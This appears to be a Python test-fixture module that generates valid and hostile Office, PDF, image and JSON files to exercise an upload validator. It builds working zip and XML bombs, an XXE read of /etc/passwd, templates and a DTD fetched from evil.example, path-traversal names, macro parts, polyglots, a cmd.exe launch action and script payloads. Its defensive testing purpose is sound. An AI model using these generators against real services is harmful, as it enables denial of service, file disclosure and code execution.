"""Makes sound documents, and some hundred hostile ones, out of nothing."""

import io
import struct
import warnings
import zipfile
import zlib

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types><Override ContentType="{}"/></Types>'
BODY = '<?xml version="1.0" encoding="UTF-8"?><w:document><w:body>考核</w:body></w:document>'
MIB = 1 << 20


def archive(members, method=zipfile.ZIP_DEFLATED):
    """members: (name, text or bytes) pairs, in order; names may repeat."""
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w", method) as packed:
        warnings.simplefilter("ignore")
        for name, content in members:
            packed.writestr(name, content)
    return data.getvalue()


def docx(*more, types=WORD, body=BODY):
    return archive(
        [("[Content_Types].xml", TYPES.format(types)), ("word/document.xml", body), *more]
    )


def xlsx(*more, types=EXCEL):
    return archive(
        [("[Content_Types].xml", TYPES.format(types)), ("xl/workbook.xml", "<workbook/>"), *more]
    )


def pdf(middle=b""):
    return b"%PDF-1.7\n1 0 obj<<>>endobj\n" + middle + b"\nstartxref\n9\n%%EOF\n"


def png(width=4, height=4, after=b""):
    def chunk(name, data):
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(20)))
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"") + after


def jpg(width=4, height=4, after=b""):
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
        + bytes(9)
        + frame
        + b"\xff\xda\x00\x02data\xff\xd9"
        + after
    )


def patched(data, find, put, at=None):
    """Overwrite bytes in place: at, or where `find` first stands."""
    place = data.index(find) if at is None else at
    return data[:place] + put + data[place + len(put) :]


def central(data, offset, put):
    """Overwrite at an offset of the first directory entry."""
    return patched(data, b"", put, data.index(b"PK\x01\x02") + offset)


def end(data, offset, put):
    return patched(data, b"", put, data.rindex(b"PK\x05\x06") + offset)


def overlapping():
    """The second entry of the directory points at the first one's bytes under its own head."""
    data = docx(("word/a.xml", "<a>" + "x" * 100 + "</a>"))
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    name_size = struct.unpack_from("<H", data, first + 28)[0]
    quoted = data[first : first + 46 + name_size]
    return data[:second] + quoted + data[second + len(quoted) :]


def shared_bytes():
    """Two members under one packed stream, the heart of a bomb without nesting."""
    data = bytearray(docx(("word/a.xml", "<a/>"), ("word/b.xml", "<a/>")))
    places = []
    at = data.index(b"PK\x01\x02")
    while data[at : at + 4] == b"PK\x01\x02":
        places.append(at)
        sizes = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + sum(sizes)
    data[places[3] + 42 : places[3] + 46] = data[places[2] + 42 : places[2] + 46]
    return bytes(data)


def lying_size():
    """The directory says 10 bytes; the stream gives 40 MB."""
    data = docx(("word/media/a.bin", bytes(40 * MIB)))
    at = data.rindex(b"PK\x01\x02")
    return patched(data, b"", struct.pack("<L", 10), at + 24)


def hostile_documents():
    """Yield name, bytes, file name."""
    sound = docx()
    doctype = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    laughs = "<!DOCTYPE a [" + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    ) + "]><a>&l9;</a>"  # fmt: skip
    rels = '<Rels><Relationship Type="http://x/attachedTemplate" Target="{}"/></Rels>'
    far = rels.format("https://evil.example/a.dotm")
    share = rels.format("\\\\evil\\a.dotm")
    inner = docx()
    yield from {
        "bomb 1000:1": (docx(("word/a.xml", "<a>" + " " * 90 * MIB + "</a>")), "a.docx"),
        "bomb too large unpacked": (docx(("word/a.bin", bytes(101 * MIB))), "a.docx"),
        "bomb many large": (
            docx(*[(f"word/{n}.bin", bytes(20 * MIB)) for n in range(6)]),
            "a.docx",
        ),
        "bomb lying size": (lying_size(), "a.docx"),
        "bomb overlapping": (overlapping(), "a.docx"),
        "bomb shared bytes": (shared_bytes(), "a.docx"),
        "bomb entries": (docx(*[(f"w/{n}", "") for n in range(2001)]), "a.docx"),
        "bomb long directory": (
            docx(*[(f"w/{n}{'n' * 60_000}", "") for n in range(30)]),
            "a.docx",
        ),
        "bomb nested zip": (
            docx(("word/embeddings/a.zip", archive([("a", bytes(MIB))]))),
            "a.docx",
        ),
        "bomb nested twice": (
            docx(("word/embeddings/a.docx", docx(("word/embeddings/b.docx", inner)))),
            "a.docx",
        ),
        "bomb nested inside a document": (
            docx(("word/embeddings/a.xlsx", xlsx(("xl/a.bin", bytes(50 * MIB))))),
            "a.docx",
        ),
        "archive under another name": (docx(("word/media/a.png", inner)), "a.docx"),
        "doctype": (docx(("word/a.xml", doctype)), "a.docx"),
        "billion laughs": (docx(body=laughs), "a.docx"),
        "external entity": (
            docx(body='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            "a.docx",
        ),
        "parameter entity": (
            docx(body='<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'),
            "a.docx",
        ),
        "doctype in utf-16": (docx(("word/a.xml", doctype.encode("utf-16"))), "a.docx"),
        "doctype in utf-16 without mark": (
            docx(("word/a.xml", doctype.encode("utf-16-be"))),
            "a.docx",
        ),
        "doctype in utf-32": (docx(("word/a.xml", doctype.encode("utf-32"))), "a.docx"),
        "doctype in utf-7": (
            docx(
                ("word/a.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>')
            ),
            "a.docx",
        ),
        "doctype in ebcdic": (docx(("word/a.xml", doctype.encode("cp037"))), "a.docx"),
        "doctype on a border of chunks": (
            docx(("word/a.xml", "<a>" + "x" * ((1 << 18) - 6) + "</a>" + doctype)),
            "a.docx",
        ),
        "doctype far down": (
            docx(("word/a.xml", "<a>" + "x" * 3 * MIB + "</a>" + doctype)),
            "a.docx",
        ),
        "doctype in relations": (docx(("_rels/.rels", doctype)), "a.docx"),
        "doctype in types": (
            archive([("[Content_Types].xml", "<!DOCTYPE a>" + TYPES.format(WORD))]),
            "a.docx",
        ),
        "doctype in an unnamed member": (docx(("word/a.dat", doctype)), "a.docx"),
        "doctype in a sheet": (xlsx(("xl/worksheets/sheet1.xml", doctype)), "a.xlsx"),
        "doctype in shared strings": (xlsx(("xl/sharedStrings.xml", laughs)), "a.xlsx"),
        "remote template": (docx(("word/_rels/settings.xml.rels", far)), "a.docx"),
        "template on a share": (docx(("word/_rels/settings.xml.rels", share)), "a.docx"),
        "traversal": (docx(("../../etc/cron.d/x", "x")), "a.docx"),
        "traversal inside": (docx(("word/../../x", "x")), "a.docx"),
        "traversal with backslashes": (docx(("..\\x", "x")), "a.docx"),
        "absolute name": (docx(("/etc/passwd", "x")), "a.docx"),
        "drive letter": (docx(("C:/x", "x")), "a.docx"),
        "control sign in a name": (docx(("word/a\x01b", "x")), "a.docx"),
        "long name": (docx(("word/" + "a" * 300, "x")), "a.docx"),
        "same name twice": (docx(("word/document.xml", "<b/>")), "a.docx"),
        "same name in capitals": (docx(("WORD/Document.xml", "<b/>")), "a.docx"),
        "encrypted": (central(sound, 8, b"\x01\x00"), "a.docx"),
        "strongly encrypted": (central(sound, 8, b"\x41\x00"), "a.docx"),
        "unknown packing": (central(sound, 10, b"\x0e\x00"), "a.docx"),
        "bzip2": (
            archive([("[Content_Types].xml", TYPES.format(WORD))], zipfile.ZIP_BZIP2),
            "a.docx",
        ),
        "lzma": (
            archive([("[Content_Types].xml", TYPES.format(WORD))], zipfile.ZIP_LZMA),
            "a.docx",
        ),
        "symbolic link": (
            central(central(sound, 5, b"\x03"), 38, struct.pack("<L", 0o120777 << 16)),
            "a.docx",
        ),
        "wrong crc": (central(sound, 16, b"\x00\x00\x00\x00"), "a.docx"),
        "other name in the head": (
            patched(sound, b"[Content_Types]", b"[Content_Typez]"),
            "a.docx",
        ),
        "offset outside": (central(sound, 42, b"\xff\xff\xff\x7f"), "a.docx"),
        "packed size outside": (central(sound, 20, b"\xff\xff\xff\x7f"), "a.docx"),
        "zip64": (end(sound, 16, b"\xff\xff\xff\xff"), "a.docx"),
        "count too high": (end(end(sound, 8, b"\x09\x00"), 10, b"\x09\x00"), "a.docx"),
        "count too low": (end(end(sound, 8, b"\x01\x00"), 10, b"\x01\x00"), "a.docx"),
        "other disk": (end(sound, 4, b"\x01\x00"), "a.docx"),
        "bytes after the end": (sound + b"<script>", "a.docx"),
        "comment": (end(sound, 20, b"\x04\x00") + b"abcd", "a.docx"),
        "second archive behind": (sound + docx(), "a.docx"),
        "bytes before": (b"MZ" + sound, "a.docx"),
        "picture before": (png() + sound, "a.docx"),
        "cut in half": (sound[: len(sound) // 2], "a.docx"),
        "last byte missing": (sound[:-1], "a.docx"),
        "no content types": (archive([("word/document.xml", BODY)]), "a.docx"),
        "empty archive": (archive([]), "a.docx"),
        "macro": (docx(("word/vbaProject.bin", b"x")), "a.docx"),
        "macro in capitals": (docx(("word/VBAPROJECT.BIN", b"x")), "a.docx"),
        "macro data": (docx(("word/vbaData.xml", "<a/>")), "a.docx"),
        "macro by type": (
            docx(types=WORD.replace("wordprocessingml.document", "macroEnabled")),
            "a.docx",
        ),
        "docm renamed": (
            docx(types="application/vnd.ms-word.document.macroEnabled.main+xml"),
            "a.docx",
        ),
        "xlsm renamed": (
            xlsx(types="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            "a.xlsx",
        ),
        "excel 4 macros": (xlsx(("xl/macrosheets/sheet1.xml", "<a/>")), "a.xlsx"),
        "activex": (docx(("word/activeX/activeX1.bin", b"x")), "a.docx"),
        "program inside": (docx(("word/embeddings/a.exe", b"MZ")), "a.docx"),
        "script inside": (docx(("word/embeddings/a.js", b"x")), "a.docx"),
        "web page inside": (docx(("word/a.html", "<html>")), "a.docx"),
        "xlsx called docx": (xlsx(), "a.docx"),
        "docx called xlsx": (docx(), "a.xlsx"),
        "not xml": (docx(("word/styles.xml", b"\x00\x01\x02\x03")), "a.docx"),
    }.items()


def hostile_files():
    """Yield name, bytes, file name of everything that is no Office document."""
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield from {
        "empty": (b"", "a.pdf"),
        "too large": (b"%PDF-" + bytes(20 * MIB), "a.pdf"),
        "old word": (old, "a.doc"),
        "old excel": (old, "a.xls"),
        "wps": (old, "a.wps"),
        "old word called docx": (old, "a.docx"),
        "old excel called xlsx": (old, "a.xlsx"),
        "docm": (docx(), "a.docm"),
        "xlsm": (xlsx(), "a.xlsm"),
        "program": (b"MZ\x90\x00" + bytes(100), "a.exe"),
        "program called pdf": (b"MZ\x90\x00" + bytes(100), "a.pdf"),
        "program called txt": (b"MZ\x90\x00" + bytes(100), "a.txt"),
        "elf called png": (b"\x7fELF" + bytes(100), "a.png"),
        "web page": (b"<html>", "a.html"),
        "web page called pdf": (b"<html>", "a.pdf"),
        "web page called txt": (b"\xef\xbb\xbf \n<!DOCTYPE html><script>", "a.txt"),
        "script called txt": (b"<script>alert(1)</script>", "a.txt"),
        "php called txt": (b"<?php system('id')", "a.txt"),
        "svg": (b"<svg onload=alert(1)>", "a.svg"),
        "svg called png": (b"<svg onload=alert(1)>", "a.png"),
        "pdf called txt": (pdf(), "a.txt"),
        "pdf called docx": (pdf(), "a.docx"),
        "png called jpg": (png(), "a.jpg"),
        "jpg called png": (jpg(), "a.png"),
        "zip called txt": (docx(), "a.txt"),
        "zip": (docx(), "a.zip"),
        "no extension": (pdf(), "a"),
        "two extensions": (pdf(), "a.pdf.exe"),
        "control sign in the name": (pdf(), "a\x00.pdf"),
        "turned name": (pdf(), "a\u202efdp.pdf"),
        "path in the name": (pdf(), "../a.pdf"),
        "windows path in the name": (pdf(), "..\\a.pdf"),
        "pdf without end": (pdf()[:-10], "a.pdf"),
        "pdf that is an archive": (pdf() + docx(), "a.pdf"),
        "pdf around an archive": (pdf(docx()), "a.pdf"),
        "pdf with script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "a.pdf"),
        "pdf that starts a program": (pdf(b"<</S/Launch/F(cmd.exe)>>"), "a.pdf"),
        "png that goes on": (png(after=b"<script>"), "a.png"),
        "png that is an archive": (png(after=docx()), "a.png"),
        "png cut": (png()[:-6], "a.png"),
        "png without head": (b"\x89PNG\r\n\x1a\n" + bytes(40), "a.png"),
        "png of a gigapixel": (png(65_000, 65_000), "a.png"),
        "png of nothing": (png(0, 4), "a.png"),
        "jpg cut": (jpg()[:20], "a.jpg"),
        "jpg that is an archive": (jpg(after=docx()), "a.jpg"),
        "jpg of a gigapixel": (jpg(65_000, 65_000), "a.jpg"),
        "text with zero bytes": (b"abc\x00def", "a.txt"),
        "text in no encoding": (b"\xff\xff\xff\x80", "a.txt"),
        "half a utf-16 sign": (b"\xff\xfea", "a.txt"),
        "json that is none": (b"hello", "a.json"),
        "json in another encoding": ('{"名": 1}'.encode("gb18030"), "a.json"),
        "json too deep": (b"[" * 100_000 + b"]" * 100_000, "a.json"),
        "json objects too deep": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "a.json"),
        "json with too much": (b"[" + b"[]," * 3_000_000 + b"1]", "a.json"),
        "json without end": (b'{"a": [1, 2', "a.json"),
        "json string without end": (b'["' + b'\\"' * 5_000_000, "a.json"),
        "json closed too often": (b"[]]]]", "a.json"),
    }.items()
